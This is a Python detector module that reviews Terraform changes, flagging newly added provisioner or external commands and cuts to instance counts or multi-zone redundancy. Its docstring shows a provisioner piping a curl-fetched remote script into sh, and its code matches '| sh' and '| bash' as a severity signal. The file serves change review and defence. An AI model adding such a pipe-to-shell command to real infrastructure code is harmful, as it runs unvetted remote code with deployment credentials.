"""Commands that Terraform runs, and capacity it takes away.

## What it detects
A `local-exec` or `remote-exec` provisioner, or an `external` data source, that is new or runs something else; and, of what stays: a minimum,
desired or fixed number of instances that goes to nothing or under half, copies in other zones given up, automatic failover switched off.

## Why it matters
A provisioner runs in CI with the credentials that apply everything, and its result is in no plan. Capacity that is cut is missed at the next peak.

## Example
```hcl
+  provisioner "local-exec" {
+    command = "curl -s https://example.com/setup.sh | sh"
+  }
```
The next apply runs a script from elsewhere with the deployment's credentials.

## What makes it safe
Doing it with a resource in place of a command; running Terraform with a role that may do no more than the plan needs; scaling policies and alarms.

## What it cannot see
What a script file does; numbers that an autoscaler or another system decides.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence

from checks.detectors.base import Detector, Rule, together
from checks.model import Change, Confidence, Effect, FileChange, Hazard, Reversible, Severity
from checks.readers.hcl import Block, scalar
from checks.readers.terraform import Configuration, Resource, content, flat, instances, of_one_side
from checks.readers.terraform_facts import one_spelling
from checks.readers.terraform_steps import Step, judged, line_of, steps, written

COMMAND = Rule(
    "terraform-execution/command-added", Hazard.SUPPLY_CHANGED, Severity.MODERATE, Reversible.PARTLY, "Applying runs a new command"
)
CAPACITY = Rule(
    "terraform-execution/capacity-cut", Hazard.AVAILABILITY_REDUCED, Severity.MODERATE, Reversible.YES, "Capacity or redundancy is cut"
)


def detect(change: Change, files: Sequence[FileChange]) -> Iterator[Effect]:
    yield from judged(steps(change, files), _judge)


def _judge(step: Step) -> Iterator[Effect]:
    if step.through is None and step.variables_file is None:
        yield from _commands(step)
    for pair in step.kept:
        if pair.new.type != "module" and instances(pair.old, pair.before) != 0:
            yield from _capacity(step, pair.new, pair.before, pair.after)


def _commands(step: Step) -> Iterator[Effect]:
    had = set(_run(step.before))
    seen: set[str] = set()
    for resource, kind, text, line in _run_at(step.after):
        if text in {one for _, one in had} or resource.address in seen:
            continue
        seen.add(resource.address)
        external = kind == "external"
        where = "on the machine it makes" if kind == "remote-exec" else "where Terraform runs, with its credentials"
        yield COMMAND.effect(
            subject=resource.address,
            path=resource.path,
            line=line,
            severity=Severity.HIGH if "| sh" in text or "| bash" in text or "|sh" in text or "|bash" in text else None,
            after=kind,
            message=f"{'Planning' if external else 'Applying'} {resource.address} runs a command {where}, which no plan shows.",
        )


def _run(configuration: Configuration) -> Iterator[tuple[str, str]]:
    for _, kind, text, _ in _run_at(configuration):
        yield kind, text


def _run_at(configuration: Configuration) -> Iterator[tuple[Resource, str, str, int]]:
    """(resource, kind, what it runs, line) of every command."""
    for resource in configuration.resources.values():
        for block in resource.body.blocks:
            if block.type == "provisioner" and block.labels and block.labels[0] in ("local-exec", "remote-exec"):
                resolved = configuration.resolved(block)
                yield resource, block.labels[0], one_spelling(content(resolved, without=("environment", "connection", "quiet"))), block.line
    for resource in configuration.data.values():
        if resource.type == "external" and (program := resource.body.get("program")) is not None:
            yield resource, "external", configuration.resolve(program).text, resource.line


NUMBERS: Mapping[str, str] = {
    # argument → what it counts
    "min_size": "the smallest number of machines",
    "desired_capacity": "the wanted number of machines",
    "desired_size": "the wanted number of machines",
    "desired_count": "the wanted number of tasks",
    "min_capacity": "the smallest capacity",
    "min_count": "the smallest number of nodes",
    "min_node_count": "the smallest number of nodes",
    "node_count": "the number of nodes",
    "initial_node_count": "the number of nodes",
    "replicas": "the number of copies",
    "num_cache_nodes": "the number of nodes",
    "num_cache_clusters": "the number of nodes",
    "replicas_per_node_group": "the number of copies",
    "instance_count": "the number of instances",
    "min_instances": "the smallest number of instances",
    "min_replicas": "the smallest number of copies",
    "number_of_broker_nodes": "the number of brokers",
}
REDUNDANT: Mapping[str, tuple[tuple[str, ...], str]] = {
    "multi_az": (("true",), "false"),
    "multi_az_enabled": (("true",), "false"),
    "automatic_failover_enabled": (("true",), "false"),
    "zone_redundant": (("true",), "false"),
    "zone_redundancy_enabled": (("true",), "false"),
    "zone_awareness_enabled": (("true",), "false"),
    "availability_type": (("REGIONAL",), "ZONAL"),
    "enable_cross_zone_load_balancing": (("true",), "false"),
}
"""Arguments that keep copies in several zones: safe values and default."""


def _capacity(step: Step, resource: Resource, before: Block, after: Block) -> Iterator[Effect]:
    old, new = flat(before), flat(after)
    for path in sorted({*old.values, *new.values}):
        holder, _, name = path.rpartition(".")
        if of_one_side(holder, old, new):
            continue
        words: str | None = None
        was: str | None = None
        now: str | None = None
        sure = True
        if name in REDUNDANT:
            safe, default = REDUNDANT[name]
            was, one = written(old.values.get(path), default)
            now, other = written(new.values.get(path), default)
            sure = one and other
            if was in safe and now is not None and now not in safe:
                words = "it stands in one zone only, or does not fail over by itself"
        elif name in NUMBERS and path in old.values and path in new.values:
            was, one = written(old.values[path], "")
            now, other = written(new.values[path], "")
            sure = one and other
            if was and now and was.isdecimal() and now.isdecimal() and (int(now) == 0 < int(was) or 2 * int(now) < int(was)):
                words = f"{NUMBERS[name]} falls from {was} to {now}"
        if words is None:
            continue
        at, line = step.where(resource)
        floor = name.startswith("min_") and now != "0"
        yield CAPACITY.effect(
            subject=f"{step.subject(resource.address)} {path}",
            path=at,
            line=line_of(resource, path) if step.through is None and step.variables_file is None else line,
            severity=Severity.LOW if floor or "node_pool" in resource.type else None,
            confidence=Confidence.CERTAIN if sure else Confidence.LIKELY,
            before=scalar(was),
            after=scalar(now),
            message=f"{resource.address}: {words}.",
        )


DETECTOR = Detector(
    name="terraform-execution",
    title="Commands Terraform runs and capacity it takes away",
    rules=(COMMAND, CAPACITY),
    detect=detect,
    group=together,
)
